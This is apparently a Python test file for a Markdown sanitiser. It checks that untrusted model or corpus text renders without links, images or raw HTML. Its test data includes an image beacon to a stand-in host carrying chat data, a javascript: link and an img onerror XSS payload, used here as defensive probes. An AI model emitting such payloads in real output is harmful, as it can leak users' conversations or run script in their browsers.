"""Untrusted model/corpus text rendered as Markdown makes no links, images or HTML."""

from __future__ import annotations

from markdown_it import MarkdownIt

from knowledge.markdown import defang, escape

HOSTILE = (
    "![beacon](http://evil.example/p.png?q=chat) [click me](javascript:alert(1)) <http://evil.example/x> "
    "<img src=x onerror=alert(1)> <b>bold html</b> [ref]\n\n[ref]: http://evil.example/r\n\n"
    "see www.evil.example or mail doctor@evil.example"
)


def _html(text: str) -> str:
    return MarkdownIt("commonmark").render(text)


def test_hostile_markdown_renders_no_links_images_or_html():
    raw = _html(HOSTILE)
    assert "<img" in raw and "<a " in raw  # the probe is hostile when rendered as is
    for out in (_html(defang(HOSTILE)), _html(escape(HOSTILE))):
        assert "<img" not in out and "<a " not in out and "<b>" not in out
        assert "beacon" in out and "click me" in out and "&lt;img src=x" in out  # the words are still shown


def test_bare_urls_and_emails_cannot_autolink():
    out = defang("at https://evil.example/a, www.evil.example and doctor@evil.example")
    # GFM autolinks need these literal runs; each is broken by a backslash escape (rendered invisibly).
    assert "https://" not in out and "www." not in out and "doctor@evil" not in out
    assert "https\\://" in out and "www\\." in out and "doctor\\@evil" in out
    assert _html(out).count("<a ") == 0


def test_reply_formatting_is_kept():
    reply = "> **DEMO MODE**\n\n**Findings**\n\n- _Added: effusion._ score 0.81 (box 0.1-0.4)\n1. item"
    out = _html(defang(reply))
    assert "<blockquote>" in out and "<strong>Findings</strong>" in out and "<em>Added: effusion.</em>" in out
    assert "<li>" in out and "<ol>" in out
    assert defang(reply) == reply  # nothing in our own wording needs escaping


def test_escape_shows_text_verbatim():
    text = "# not a heading * not a list _x_ `code` 1. two"
    out = _html(escape(text))
    assert "<h1>" not in out and "<em>" not in out and "<code>" not in out and "<ol>" not in out
    assert "# not a heading * not a list _x_ `code` 1. two" in out
